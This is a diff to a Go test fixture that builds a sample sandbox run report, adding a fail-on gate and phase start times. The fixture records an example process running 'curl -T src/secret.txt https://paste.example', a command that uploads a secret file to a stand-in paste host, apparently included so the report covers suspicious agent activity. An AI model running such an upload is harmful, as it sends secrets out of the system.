@@ -16,9 +16,9 @@ func success() *reports.Report {
 	noon := time.Date(2026, 5, 4, 12, 0, 0, 0, time.UTC)
 	curl := reports.Process{PID: 212, Exe: "/usr/bin/curl", Cmdline: "curl -T src/secret.txt https://paste.example", Parents: []string{"/bin/bash"}}
 	return &reports.Report{
-		Schema: reports.Schema, ID: "k3v9", Version: "1.2.3", Outcome: reports.Success, StartedAt: noon, FinishedAt: noon.Add(133 * time.Second),
+		Schema: reports.Schema, ID: "k3v9", Version: "1.2.3", Outcome: reports.Success, FailOn: []string{"gate"}, StartedAt: noon, FinishedAt: noon.Add(133 * time.Second),
 		DurationMs: 133_400,
-		Phases:     []reports.Phase{{Name: "gateway", DurationMs: 251}, {Name: "agent", DurationMs: 131_020}, {Name: "collect", DurationMs: 90}},
+		Phases:     []reports.Phase{{Name: "gateway", DurationMs: 251}, {Name: "agent", StartMs: 800, DurationMs: 131_020}, {Name: "collect", StartMs: 132_000, DurationMs: 90}},
 		Engine:     reports.Engine{Version: "20.10.24", OS: "Debian GNU/Linux 12", Kernel: "6.1.0", Host: "unix:///var/run/docker.sock"},
 		Sandbox: reports.Sandbox{UID: 1000, GID: 1000, Limits: reports.Limits{
 			TimeoutMs: 1_800_000, MemoryBytes: 6 << 30, CPUs: 4, PIDs: 4096, ShmBytes: 1 << 30,
